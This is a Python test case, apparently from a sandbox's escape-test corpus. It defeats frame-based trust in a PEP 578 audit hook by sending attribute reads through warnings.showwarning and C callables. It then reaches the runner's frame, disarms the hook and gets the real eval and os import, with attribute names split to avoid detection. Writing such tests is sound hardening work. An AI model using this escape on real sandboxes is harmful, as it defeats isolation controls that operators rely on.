# technique: the real C operator.attrgetter class of 184 (type(operator.attrgetter('x'))) driven from a frame the audit hook trusts for frame reads: warnings.showwarning = f is written through to the real warnings module, and warnings._showwarnmsg calls it from warnings.py's own frame; with f = functools.partial(set.update, found, map(AG('gi_frame.f_back.f_back'), [g])) (all C: no Python frame is pushed), set.update drains the map inside that call, so the gi_frame read (object.__getattr__ event) is made while warnings' frame is current and passes; g is the running generator that called warnings.warn, so the chain reaches the runner's run() frame; its f_globals (not audited) hold the real builtins, os and sys modules, its f_locals the _Audit instance: audit.armed = False, then the real eval and __import__('os') work
# source: frame-based trust in Python audit hooks (PEP 578) defeated by trusted stdlib code calling a C callable the snippet supplies (functools.partial/map/set.update: the call happens "in a trusted frame"); 167 (running generator frame -> runner frame -> audit state); 175 (warnings callbacks)
# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import operator, functools, warnings

AG = type(operator.attrgetter('x'))  # the real C class (184)
found = set()
holder = []
chain = 'gi_' + 'frame.f_' + 'back.f_' + 'back'  # generator -> snippet -> runner's run()


def gen():
    g = holder[0]
    # called by warnings._showwarnmsg in warnings.py's frame; set.update
    # drains the map there, the attribute reads happen in that frame
    warnings.showwarning = functools.partial(set.update, found, map(AG(chain), [g]))
    warnings.warn('x')
    yield 1


g = gen()
holder.append(g)
try:
    next(g)
except BaseException as e:
    pass  # set.update then fails on the warning message: the map is drained already

frames = list(found)
if frames and check('runner run() frame through warnings.showwarning', frames[0]):
    runner = frames[0]
    G = AG('f_' + 'globals')(runner)  # not audited by CPython 3.11
    L = AG('f_' + 'locals')(runner)
    check('runner globals _b', G['_b'])
    check('runner globals _os', G['_os'])
    audit = L['audit']
    audit.armed = False
    real_builtins = G['_b']
    check('real eval after disarming the audit hook', AG('ev' + 'al')(real_builtins))
    attempt('os through the real __import__',
            lambda: AG(dn('import'))(real_builtins)('os'))
else:
    print('BLOCKED runner frame: nothing collected')
